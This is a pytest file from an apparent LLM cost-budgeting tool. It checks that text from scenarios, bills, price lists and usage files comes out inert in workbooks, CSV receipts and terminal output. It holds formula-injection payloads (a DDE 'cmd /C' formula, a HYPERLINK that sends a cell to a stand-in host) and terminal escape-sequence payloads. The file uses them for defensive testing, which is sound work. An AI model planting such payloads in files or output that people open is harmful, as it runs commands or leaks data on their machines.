"""Texts from outside stay texts: in workbooks, CSV files, scenario files and on the terminal."""

import csv
import json
import re
import tomllib
import zipfile
from collections import defaultdict
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from install.command import main
from tests.workbooks.usage.exports import DATA
from workbooks.folder import receipts
from workbooks.prices.feeds import genai
from workbooks.prices.store import Store
from workbooks.printable import STEERING

MARK = "INJECTED"
FORMULAS = [
    f"=cmd|' /C {MARK}'!A0",
    f'=HYPERLINK("http://{MARK}.example/?"&A1,"ok")',
    f"+{MARK}",
    f"-2+3+cmd|' /C {MARK}'!A0",
    f"@SUM({MARK})",
    f"{{=1+1}}{MARK}",
    f"＝1+1{MARK}",  # noqa: RUF001  (a Japanese Excel reads it as a formula)
    f"http://{MARK}.example/",
    f"external:\\\\{MARK}.example\\share\\x.xlsx",
    f"internal:Cover!A1 {MARK}",
    f'a","b;=1+{MARK}',
    f"&R&G{MARK}<b>]]>&amp;'\"",
]
"""Each is a formula, a link or markup to some program that might read it."""
STEERS = [
    f"\x1b]0;{MARK}\x07",
    f"\x1b[2J\x1b[31m{MARK}",
    f"\x9b31m{MARK}",
    f"\x1b]8;;http://{MARK}.example/\x1b\\gpt\x1b]8;;\x1b\\",
    f"gpt\u202e{MARK}\u2066",
    f"gpt\rForged {MARK}",
    f"gpt\x08\x7f{MARK}",
]
"""Each steers some terminal: a title, a colour, a link, the direction, the cursor."""
FORGED = "a\nForged: yes"
SPOKEN = defaultdict(set, cNvPr={"name", "descr"})
"""Attributes that are read out: the name of a drawing, and what there is instead of it."""
BEGINS_A_FORMULA = tuple("=+-@\t\r＝＋－＠")  # noqa: RUF001


def inert(path: Path) -> None:
    """Say that no part of a workbook holds the mark but as text of a cell or of a property."""
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    shown = b"".join(parts.values())
    assert MARK.encode() in shown, "what was injected must have arrived"
    told = {name: part for name, part in parts.items() if name.endswith((".xml", ".rels"))}
    for name, part in told.items():
        for node in ElementTree.fromstring(part).iter():
            tag = node.tag.rpartition("}")[2]
            held = " ".join([node.text or "", *node.attrib.values()])
            if MARK in held:
                assert tag in {"t", "v", "cNvPr"} or name == "docProps/core.xml", (name, tag, held)
                names = [each for key, each in node.attrib.items() if key not in SPOKEN[tag]]
                assert MARK not in " ".join(names), (name, tag, held)


def formulas_in(path: Path) -> list[str]:
    """Cells of a CSV file that are formulas to programs which part cells at , or ; or tab."""
    lines = path.read_text(encoding="utf-8").splitlines()
    rows = [row for delimiter in ",;\t" for row in csv.reader(lines, delimiter=delimiter)]
    cells = [cell for row in rows for cell in row if cell.startswith(BEGINS_A_FORMULA)]
    return [cell for cell in cells if not re.fullmatch(r"-?[\d.]+(,.*)?", cell)]


def not_steering(capsys: pytest.CaptureFixture[str]) -> str:
    """What was printed, none of which steers."""
    captured = capsys.readouterr()
    said = captured.out + captured.err
    assert STEERING.findall(said) == []
    return said


def scenario(path: Path, title: str, purpose: str, owner: str, source: str) -> Path:
    """Write a scenario that says texts wherever a scenario may say one."""
    given = (title, purpose, owner, source)
    quoted = [json.dumps(each, ensure_ascii=False).replace("\x7f", "\\u007f") for each in given]
    title, purpose, owner, source = quoted
    path.write_text(
        f"title = {title}\npurpose = {purpose}\nowner = {owner}\n"
        f"[workload]\ntokens_per_month = {{ base = 3e9, source = {source}, owner = {owner} }}\n"
        '[api]\napi_model = "openai/gpt-4o"\n'
        '[nodes]\nhardware = "H100 SXM"\nnode_tokens_per_second = 900.0\n',
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    "first",
    [0, *(pytest.param(at, marks=pytest.mark.slow) for at in range(4, len(FORMULAS), 4))],
)
def test_a_scenario_puts_only_text_into_workbooks(tmp_path: Path, first: int) -> None:
    """Titles, owners, sources and models are no formulas, links, names, headers or chart texts."""
    texts = FORMULAS[first : first + 4]
    given = scenario(tmp_path / "s.toml", *texts)
    assert main(["budget", str(given), "--out", "b.xlsx"]) == 0
    inert(tmp_path / "b.xlsx")
    cover = openpyxl.load_workbook("b.xlsx", data_only=True)["Cover"]
    assert set(texts[:2]) <= {row[0].value for row in cover}
    paid = bill(tmp_path / "bill.csv", [*FORMULAS, "openai/gpt-4o"])
    command = ["actuals", str(given), str(paid), "--out", "a.xlsx", "--record", "r.csv"]
    assert main(command) == 0
    inert(tmp_path / "a.xlsx")
    assert formulas_in(tmp_path / "r.csv") == []
    before = Path("r.csv").read_bytes()
    assert main([*command, "--force"]) == 0
    assert Path("r.csv").read_bytes() == before  # it finds its own rows again


PORTFOLIO = """
title = {0}
purpose = {1}
owner = {2}
horizon_months = 12
load_shape = "flat"
[[workload]]
name = {3}
cost_centre = {4}
tokens_per_month = {{ base = 8e9, source = {5}, owner = {6} }}
[[workload]]
name = {7}
tokens_per_month = {{ base = 2e9 }}
[[engine]]
name = {8}
kind = "api"
input_price_per_mtok = {{ base = 4.70 }}
output_price_per_mtok = {{ base = 4.70 }}
[[engine]]
name = {9}
kind = "nodes"
acquisition_kind = "rent"
hardware = {{ base = "H100 SXM" }}
system = {{ base = "1x H100 SXM | Llama-3.1-8B fp8 | 1000/1000" }}
rent_per_gpu_hour = {{ base = 1.65 }}
[[strategy]]
name = {10}
routes = {{ {3} = {8}, {7} = {8} }}
[[strategy]]
name = {11}
routes = {{ {3} = {9}, {7} = {8} }}
"""


@pytest.mark.parametrize("turn", [0, 5, 9])
def test_a_portfolio_puts_only_text_into_workbooks_and_decks(tmp_path: Path, turn: int) -> None:
    """Neither do its workloads, engines, strategies and cost centres, wherever each is shown."""
    texts = [json.dumps(text, ensure_ascii=False) for text in FORMULAS[turn:] + FORMULAS[:turn]]
    Path("p.toml").write_text(PORTFOLIO.format(*texts), encoding="utf-8")
    assert main(["budget", "p.toml", "--out", "b.xlsx"]) == 0
    assert main(["diff", "p.toml", "b.xlsx", "--out", "d.xlsx"]) == 0
    assert main(["report", "b.xlsx", "--out", "r.pptx"]) == 0
    for written in ("b.xlsx", "d.xlsx", "r.pptx"):
        inert(tmp_path / written)
    assert main(["export", "b.xlsx", "--out", "back.toml"]) == 0
    before, after = (tomllib.loads(Path(each).read_text()) for each in ("p.toml", "back.toml"))
    for kind in ("workload", "engine", "strategy"):
        assert [each["name"] for each in after[kind]] == [each["name"] for each in before[kind]]


def test_a_folder_signs_and_updates_texts_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also what is noted at the signing, and the mix; names of workloads stand in each."""
    texts = [json.dumps(text, ensure_ascii=False) for text in FORMULAS]
    Path("p.toml").write_text(PORTFOLIO.format(*texts), encoding="utf-8")
    assert main(["mix", "p.toml", "--no-answers", "--gap", "0.1", "--out", "m.xlsx"]) == 0
    inert(tmp_path / "m.xlsx")
    assert main(["init", "f", "--from", "p.toml"]) == 0
    monkeypatch.chdir("f")
    for note in ("\n".join(FORMULAS), "".join(STEERS), f"{FORGED}\0\r", "x" * 40_000):
        assert main(["approve", "--note", note]) == 0
    assert main(["update", "--offline"]) == 0
    assert main([]) == 0
    assert "\nForged" not in not_steering(capsys)
    inert(Path("budget.xlsx").resolve())
    assert [cell for path in Path("receipts").iterdir() for cell in formulas_in(path)] == []


@pytest.mark.parametrize("text", STEERS)
def test_a_scenario_that_steers_a_terminal_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    """In one sentence that itself does not steer."""
    given = scenario(tmp_path / "s.toml", "t", "p", "o", text)
    for command in (["budget", "--out", "b.xlsx"], ["risk"], ["decide"]):
        assert main([command[0], str(given), *command[1:]]) == 2
        said = not_steering(capsys)
        assert "without characters that steer a terminal" in said
        assert said.count("\n") == 1
    assert not Path("b.xlsx").exists()


def bill(path: Path, models: list[str]) -> Path:
    """Write the plain bill of some models."""
    with path.open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["month", "model", "tokens", "cost"])
        table.writerows(["2026-12", model, "1e9", "9000"] for model in models)
    return path


def test_models_of_a_bill_do_not_steer(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Neither in sentences nor in JSON, which has them all the same."""
    models = [text for text in STEERS if "\r" not in text]  # that would end the line
    paid = bill(tmp_path / "bill.csv", models)
    assert main(["actuals", "mid-size", str(paid)]) == 0
    not_steering(capsys)
    assert main(["actuals", "mid-size", str(paid), "--json"]) == 0
    assert set(json.loads(not_steering(capsys))["by_model"]) >= set(models)


def test_usage_says_models_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """On the terminal, as JSON, and in a scenario, which has the same entries as without."""
    source, texts = next(DATA.glob("openai_usage_completions*")), [*FORMULAS, *STEERS, FORGED]
    header, first, *_ = csv.reader(source.read_text(encoding="utf-8").splitlines())
    model = header.index("model")
    rows = [[*first[:model], text, *first[model + 1 :]] for text in texts]
    with Path("usage.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
    assert main(["usage", "import", "usage.csv", "--out", "w.toml"]) == 2  # none has a price
    assert "\nForged" not in not_steering(capsys)
    assert main(["usage", "import", "usage.csv", "--json"]) == 0
    months = json.loads(not_steering(capsys))["months"]
    assert {month["model"] for month in months} == set(texts)
    for name, line in (("w", rows[-1]), ("plain", first)):
        with Path(f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([header, line])
        assert main(["usage", "import", f"{name}.csv", "--out", f"{name}.toml"]) == 0
    found, plain = (tomllib.loads(Path(name).read_text()) for name in ("w.toml", "plain.toml"))
    assert found.keys() == plain.keys()


def test_price_lists_put_only_text_into_receipts_and_a_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whatever a list calls its models, no receipt has a cell that begins a formula."""
    providers = json.loads(genai.installed())
    names = [*FORMULAS, *STEERS, FORGED]
    prices = {"input_mtok": 2, "output_mtok": 8}
    for provider in (providers[0], {**providers[0], "id": names[0], "name": names[0]}):
        models = [{**providers[0]["models"][0], "id": text, "prices": prices} for text in names]
        provider["models"] = [*provider["models"], *models]
        providers.append(provider)
    Path("list.json").write_text(json.dumps(providers))
    receipts.write(Path(), [{"table": "folder"}])
    command = ["prices", "refresh", "--from", "genai=list.json", "--new"]
    assert main(command) == 0
    assert "\nForged" not in not_steering(capsys)
    assert [row for row in Store(Path()).rows() if MARK in row.model.upper()]
    for path in Path().glob("receipts/*.csv"):
        assert formulas_in(path) == []


@pytest.mark.slow
def test_a_price_sheet_puts_only_text_into_receipts_and_a_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A vendor names models, provider and the file itself; the prices of all reach a workbook."""
    sheet = tmp_path / f"=1+{MARK}.csv"
    with sheet.open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file, quoting=csv.QUOTE_ALL)
        table.writerow(["Model", "Provider", "Input (USD per 1M tokens)", "Output (USD per 1M)"])
        texts = [*FORMULAS, *(each for each in STEERS if "\r" not in each)]
        table.writerows([text, text, "2", "8"] for text in texts)
        table.writerows([f"m{n} {text}", "x", "2", "8"] for n, text in enumerate(texts))
    receipts.write(Path(), [{"table": "folder"}])
    assert main(["prices", "import", str(sheet), "--apply"]) == 0
    not_steering(capsys)
    for path in Path().glob("receipts/*.csv"):
        assert formulas_in(path) == []
    kept = [row.model for row in Store(Path()).rows()]
    assert [model for model in kept if STEERING.search(model)] == []
    assert main(["budget", "--out", "b.xlsx"]) == 0
    command = ["prices", "refresh", "--offline", "--workbook", "b.xlsx"]
    assert main([*command, "--new", "--apply"]) == 0
    not_steering(capsys)
    inert(tmp_path / "b.xlsx")


def test_a_workbook_that_is_linted_does_not_steer(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its sheets, cells and formulas are quoted in what is found."""
    book = openpyxl.Workbook()
    book.active.title = "a\u202eb\x9bc"
    book.active["A1"] = '="\x9b31m\u202e"&1+2+3*4'
    book.active["A2"] = "=1/0"
    book.save("odd.xlsx")
    main(["lint", "odd.xlsx"])
    assert "odd.xlsx" in not_steering(capsys)
    main(["budget", "--from", "odd.xlsx"])
    not_steering(capsys)


@pytest.mark.parametrize("text", STEERS)
def test_what_is_typed_comes_back_harmless(capsys: pytest.CaptureFixture[str], text: str) -> None:
    """A refusal quotes names of files, models and flags."""
    for command in (
        ["budget", text],
        ["lint", f"{text}.xlsx"],
        ["prices", "history", text],
        ["prices", "show", text],
        ["usage", "import", text],
        ["budget", "--tokens", text],
        [text],
    ):
        assert main(command) == 2
        assert not_steering(capsys)
